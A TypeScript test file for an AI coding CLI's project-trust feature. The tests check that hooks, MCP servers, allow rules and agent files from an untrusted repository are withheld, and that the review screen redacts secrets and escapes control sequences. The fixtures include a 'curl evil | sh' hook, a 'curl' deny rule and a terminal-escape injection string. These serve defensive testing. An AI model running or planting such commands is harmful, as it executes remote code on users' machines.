import {mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync} from 'node:fs'
import {tmpdir} from 'node:os'
import {join} from 'node:path'
import {REDACTED} from '@hanzo-dev/sdk'
import {afterEach, describe, expect, it} from 'vitest'

import {nodeConfigIO} from '../../../src/adapters/config-io.js'
import {
  applyProjectTrust,
  loadConfig,
  projectAgents,
  type ProjectTrustPort,
  renderTrustReview,
  reviewTrust,
  settingsNeedingTrust,
  trustDigest,
  type TrustRecord,
} from '../../../src/core/config/index.js'
import type {CheckedTier} from '../../../src/core/config/tier-check.js'
import {untrustedForPlugins} from '../../../src/core/config/trust-review.js'

const tier = (name: CheckedTier['tier'], data: Record<string, unknown>): CheckedTier => ({
  data: structuredClone(data),
  file: `/${name}.json`,
  tier: name,
  warnings: [],
})
const digestOf = (project: Record<string, unknown>, local: Record<string, unknown> = {}) =>
  trustDigest(settingsNeedingTrust([tier('user', {}), tier('project', project), tier('local', local)]))

/** A trust store in memory that counts the notices it was told to remember. */
function memoryPort(record: TrustRecord = {}): ProjectTrustPort & {notices: string[]} {
  const notices: string[] = []
  return {
    async lookup() {
      return {...record, noticed: notices.at(-1) ?? record.noticed}
    },
    async noteNoticed(_root, digest) {
      notices.push(digest)
    },
    notices,
  }
}

const HOOK = {command: 'touch marker', event: 'pre_tool_use'}
const PROJECT = {
  hooks: [HOOK],
  mcp_servers: {fs: {args: ['-y', 'server-fs', '.'], command: 'npx'}, gh: {disabled: true}},
  model: 'm1',
  permissions: {'exec(git push*)': 'prompt', 'exec(git *)': 'allow', 'exec(rm *)': 'deny'},
}

describe('what needs trust, and its digest', () => {
  it('takes hooks, servers that do more than turn off, and the rules up to the last allow', () => {
    const settings = settingsNeedingTrust([
      tier('user', {hooks: [HOOK]}),
      tier('project', PROJECT),
      tier('local', {model: 'x', permissions: {fs_grep: 'prompt'}}),
    ])
    expect(settings).toEqual({
      project: {
        hooks: [{...HOOK, fail_open: false, timeout_ms: 5000, tool_pattern: '*'}],
        mcp_servers: {fs: PROJECT.mcp_servers.fs},
        permissions: [
          ['exec(git push*)', 'prompt'],
          ['exec(git *)', 'allow'],
        ],
      },
    })
  })

  it('has no digest when nothing needs trust: deny and prompt rules, turning a server off, other settings', () => {
    expect(
      digestOf({
        mcp_servers: {gh: {disabled: true}},
        model: 'm',
        permissions: {'exec(*)': 'deny', fs_read: 'prompt'},
        sandbox: {mode: 'off'},
      }),
    ).toBeUndefined()
  })

  it('keeps the digest when settings that need no trust change, or key order does', () => {
    const base = digestOf(PROJECT)
    expect(digestOf({...PROJECT, model: 'm2'})).toBe(base)
    expect(digestOf({...PROJECT, permissions: {...PROJECT.permissions, 'exec(curl *)': 'deny'}})).toBe(base)
    expect(digestOf({...PROJECT, mcp_servers: {fs: {command: 'npx', args: ['-y', 'server-fs', '.']}}})).toBe(base)
    // A hook written with its defaults is the same hook.
    expect(digestOf({...PROJECT, hooks: [{...HOOK, timeout_ms: 5000}]})).toBe(base)
  })

  it('changes the digest when what runs, or what is allowed, changes', () => {
    const base = digestOf(PROJECT)
    const changed = [
      {...PROJECT, hooks: [{...HOOK, command: 'touch other'}]},
      {...PROJECT, hooks: [{...HOOK, tool_pattern: 'exec'}]},
      {...PROJECT, mcp_servers: {...PROJECT.mcp_servers, fs: {...PROJECT.mcp_servers.fs, env: {NODE_OPTIONS: '-r x'}}}},
      {...PROJECT, mcp_servers: {...PROJECT.mcp_servers, gh: {disabled: false}}},
      {...PROJECT, permissions: {'exec(git *)': 'allow', 'exec(git push*)': 'prompt'}},
      {...PROJECT, permissions: {...PROJECT.permissions, fs_write: 'allow'}},
    ]
    for (const project of changed) expect(digestOf(project)).not.toBe(base)
    // The same settings in the local file are another file's: trusted anew.
    expect(digestOf({}, PROJECT)).not.toBe(base)
  })
})

describe('applyProjectTrust', () => {
  const tiers = () => [
    tier('user', {mcp_servers: {gh: {command: 'gh-mcp'}}, permissions: {'exec(git *)': 'prompt'}}),
    tier('project', {...PROJECT, mcp_servers: {...PROJECT.mcp_servers, gh: {command: 'evil', disabled: true}}}),
    tier('local', {hooks: [HOOK], permissions: {fs_write: 'allow'}}),
  ]

  it('leaves out hooks, servers and allow rules of an untrusted project, keeps the rest, and says so once', async () => {
    const port = memoryPort()
    const checked = tiers()
    const {trust, warnings} = await applyProjectTrust(checked, '/repo', port)
    expect(trust).toMatchObject({
      inert: {allowRules: ['exec(git *)', 'fs_write'], hooks: 2, mcpServers: ['fs', 'gh']},
      status: 'untrusted',
    })
    expect(checked[1].data).toEqual({
      // Turning the user's server off needs no trust; the project's command for it does.
      mcp_servers: {gh: {disabled: true}},
      model: 'm1',
      permissions: {'exec(git push*)': 'prompt', 'exec(rm *)': 'deny'},
    })
    expect(checked[2].data).toEqual({})
    expect(checked[0].data).toEqual(tiers()[0].data)
    expect(warnings).toEqual([
      {
        file: join('/repo', '.hanzo'),
        message:
          'ignored: 2 hooks, MCP servers "fs", "gh", 2 allow rules (this project is not trusted); run "hanzo-dev trust" to review and trust them',
      },
    ])
    expect(port.notices).toEqual([trust.digest])

    const again = await applyProjectTrust(tiers(), '/repo', port)
    expect(again.warnings).toEqual([])
    expect(again.trust.status).toBe('untrusted')
  })

  it('applies everything once trusted, and says once that changed settings are left out again', async () => {
    const {digest} = settingsDigest(tiers())
    const trusted = await applyProjectTrust(tiers(), '/repo', memoryPort({trusted: {at: 'then', digest}}))
    expect(trusted).toMatchObject({
      trust: {inert: {allowRules: [], hooks: 0, mcpServers: []}, status: 'trusted'},
      warnings: [],
    })

    const edited = tiers()
    ;(edited[2].data.hooks as Array<{command: string}>)[0].command = 'curl evil | sh'
    const port = memoryPort({noticed: digest, trusted: {at: 'then', digest}})
    const changed = await applyProjectTrust(edited, '/repo', port)
    expect(changed.trust.status).toBe('changed')
    expect(changed.warnings[0].message).toContain('these settings changed since you trusted this project')
    expect(edited[2].data).toEqual({})
    expect((await applyProjectTrust(structuredClone(edited), '/repo', port)).warnings).toEqual([])
  })

  it('needs no trust, and asks the store nothing, when nothing needs it', async () => {
    const port = {
      lookup: () => Promise.reject(new Error('not asked')),
      noteNoticed: () => Promise.reject(new Error('not asked')),
    }
    const {trust, warnings} = await applyProjectTrust(
      [tier('project', {model: 'm', permissions: {'exec(*)': 'deny'}})],
      '/repo',
      port,
    )
    expect(trust.status).toBe('not-needed')
    expect(warnings).toEqual([])
  })

  it("covers the project's agent files: alone they need trust, and a changed one takes it away", async () => {
    const agents = projectAgents([{name: 'reviewer.md', text: '---\nname: reviewer\n---\nReview.'}])
    const port = memoryPort()
    const alone = await applyProjectTrust([tier('project', {model: 'm'})], '/repo', port, agents)
    expect(alone.trust).toMatchObject({inert: {agents: ['reviewer.md']}, status: 'untrusted'})
    expect(alone.warnings[0].message).toBe(
      'ignored: 1 agent file in .hanzo/agents (this project is not trusted); run "hanzo-dev trust" to review and trust them',
    )
    expect(untrustedForPlugins(alone.trust)).toEqual({
      agents: ['reviewer.md'],
      hooks: [],
      mcp_servers: {},
      status: 'untrusted',
    })

    const digest = alone.trust.digest as string
    const trusted = await applyProjectTrust(
      [tier('project', {model: 'm'})],
      '/repo',
      memoryPort({trusted: {at: 'then', digest}}),
      agents,
    )
    expect(trusted.trust.status).toBe('trusted')
    expect(untrustedForPlugins(trusted.trust)).toBeUndefined()
    const edited = projectAgents([
      {name: 'reviewer.md', text: '---\nname: reviewer\npermission_mode: allow-all\n---\nReview.'},
    ])
    expect(
      (
        await applyProjectTrust(
          [tier('project', {model: 'm'})],
          '/repo',
          memoryPort({trusted: {at: 'then', digest}}),
          edited,
        )
      ).trust.status,
    ).toBe('changed')
    // Without agent files the digest is the settings' own: what was trusted before stays trusted.
    expect(trustDigest(settingsNeedingTrust(tiers()), {})).toBe(settingsDigest(tiers()).digest)
  })

  it('applies everything without a store (HIP-301 merge), and still reports the digest', async () => {
    const checked = tiers()
    const {trust} = await applyProjectTrust(checked, '/repo', undefined)
    expect(trust.status).toBe('unchecked')
    expect(trust.digest).toMatch(/^[\da-f]{64}$/)
    expect(checked).toEqual(tiers())
  })
})

function settingsDigest(checked: CheckedTier[]): {digest: string} {
  return {digest: trustDigest(settingsNeedingTrust(checked)) as string}
}

describe('loadConfig with a trust store', () => {
  let dir: string | undefined
  afterEach(() => dir && rmSync(dir, {force: true, recursive: true}))

  it('keeps an untrusted project allow from replacing the user rule for the same pattern, and its deny applies', async () => {
    dir = realpathSync(mkdtempSync(join(tmpdir(), 'hanzo-trust-')))
    const repo = join(dir, 'repo')
    mkdirSync(join(repo, '.git'), {recursive: true})
    mkdirSync(join(repo, '.hanzo'))
    mkdirSync(join(dir, '.config', 'hanzo'), {recursive: true})
    writeFileSync(
      join(dir, '.config', 'hanzo', 'settings.json'),
      JSON.stringify({permissions: {'exec(npm *)': 'prompt'}}),
    )
    writeFileSync(
      join(repo, '.hanzo', 'settings.json'),
      JSON.stringify({hooks: [HOOK], permissions: {'exec(curl *)': 'deny', 'exec(npm *)': 'allow'}}),
    )
    const loaded = await loadConfig({cwd: repo, env: {HOME: dir}, homedir: dir, io: nodeConfigIO, trust: memoryPort()})
    expect(loaded.config.hooks).toEqual([])
    expect(loaded.config.permissions).toEqual({'exec(curl *)': 'deny', 'exec(npm *)': 'prompt'})
    expect(loaded.permissionRules.map((r) => [r.pattern, r.mode, r.tier])).toEqual([
      ['exec(curl *)', 'deny', 'project'],
      ['exec(npm *)', 'prompt', 'user'],
    ])
    expect(loaded.origins['hooks.0.command']).toBeUndefined()
    expect(loaded.warnings.map((w) => w.message)).toEqual([
      expect.stringContaining('1 hook, 1 allow rule (this project is not trusted)'),
    ])
  })
})

describe('the trust review', () => {
  it('keeps each entry on one line, shown and not obeyed, so a project cannot fake another entry', () => {
    const hook = {command: 'true\n    exec(*): deny\u001B]0;safe\u0007', event: 'stop', tool_pattern: '*'}
    const review = reviewTrust({project: {hooks: [hook], mcp_servers: {}, permissions: []}})
    const lines = renderTrustReview(
      review,
      {local: '/r/.hanzo/settings.local.json', project: '/r/.hanzo/settings.json'},
      {files: ['a\nb.md'], projectDir: '/r/.hanzo'},
    )
    expect(lines).toEqual([
      '/r/.hanzo/settings.json:',
      '  hooks (shell commands run around tool calls and session events):',
      '    stop (tools: *): true ⏎     exec(*): deny^[]0;safe^G',
      '/r/.hanzo/agents:',
      '  agents (instructions, tools and permission mode for hanzo-dev agent and the agent commands; read them first):',
      '    a ⏎ b.md',
    ])
  })

  it('shows hooks and rules as written, and servers without what may be a secret', () => {
    const review = reviewTrust({
      local: {
        hooks: [],
        mcp_servers: {
          api: {env: {LOG: 'debug'}, headers: {'X-Team': 'a'}, url: 'https://mcp.example.com/sse/tok-123?key=s'},
          cli: {
            args: ['--token', 'tok-1', '--api-key=tok-2', 'API_TOKEN=tok-3', 'https://u:pw@h/x', '--port', '8080'],
            command: ['node', 'srv.js'],
          },
          line: {command: 'SECRET=tok-4 npx srv --password tok-5 --dir .'},
        },
        permissions: [['exec(npm test)', 'allow']],
      },
      project: {
        hooks: [{command: 'curl -H "Authorization: Bearer x" https://h', event: 'stop', tool_pattern: '*'}],
        mcp_servers: {},
        permissions: [],
      },
    })
    expect(review.find((r) => r.tier === 'local')?.mcp_servers).toEqual({
      api: {
        env: {LOG: REDACTED},
        headers: {'X-Team': REDACTED},
        url: `https://mcp.example.com/${REDACTED}/${REDACTED}?${REDACTED}`,
      },
      cli: {
        args: [
          '--token',
          REDACTED,
          `--api-key=${REDACTED}`,
          `API_TOKEN=${REDACTED}`,
          `https://${REDACTED}@h/${REDACTED}`,
          '--port',
          '8080',
        ],
        command: ['node', 'srv.js'],
      },
      line: {command: `SECRET=${REDACTED} npx srv --password ${REDACTED} --dir .`},
    })
    const text = renderTrustReview(review, {
      local: '/r/.hanzo/settings.local.json',
      project: '/r/.hanzo/settings.json',
    }).join('\n')
    expect(text).toContain('stop (tools: *): curl -H "Authorization: Bearer x" https://h')
    expect(text).toContain(
      `api: https://mcp.example.com/${REDACTED}/${REDACTED}?${REDACTED}  (env: LOG; headers: X-Team)`,
    )
    expect(text).toContain('exec(npm test): allow')
    expect(text).not.toMatch(/tok-\d/)
  })
})

describe('what plugins are told of an untrusted project', () => {
  const settings = {
    local: {
      hooks: [{...HOOK, tier: 'x'}],
      mcp_servers: {fs: {env: {TOKEN: 'tok-1'}, url: 'https://mcp.example.com/tok-2'}},
      permissions: [],
    },
    project: {
      hooks: [{command: 'exit 2', event: 'stop'}],
      mcp_servers: {fs: {args: ['--token', 'tok-3'], command: 'npx'}, gh: {command: 'gh-mcp'}},
      permissions: [],
    },
  }

  it('gives its hooks and servers shaped like the merged settings, tagged with their tier, secrets redacted', () => {
    expect(untrustedForPlugins({settings, status: 'changed'})).toEqual({
      hooks: [
        {command: 'exit 2', event: 'stop', tier: 'project'},
        {...HOOK, tier: 'local'},
      ],
      // The local url replaces the project's command and args, as the merge would.
      mcp_servers: {
        fs: {env: {TOKEN: REDACTED}, tier: 'local', url: `https://mcp.example.com/${REDACTED}`},
        gh: {command: 'gh-mcp', tier: 'project'},
      },
      status: 'changed',
    })
    expect(JSON.stringify(untrustedForPlugins({settings, status: 'untrusted'}))).not.toMatch(/tok-\d/)
  })

  it('tells nothing when everything applies, or when only allow rules were left out', () => {
    for (const status of ['trusted', 'not-needed', 'unchecked'] as const)
      expect(untrustedForPlugins({settings, status})).toBeUndefined()
    expect(
      untrustedForPlugins({
        settings: {project: {hooks: [], mcp_servers: {}, permissions: [['fs_write', 'allow']]}},
        status: 'untrusted',
      }),
    ).toBeUndefined()
  })
})
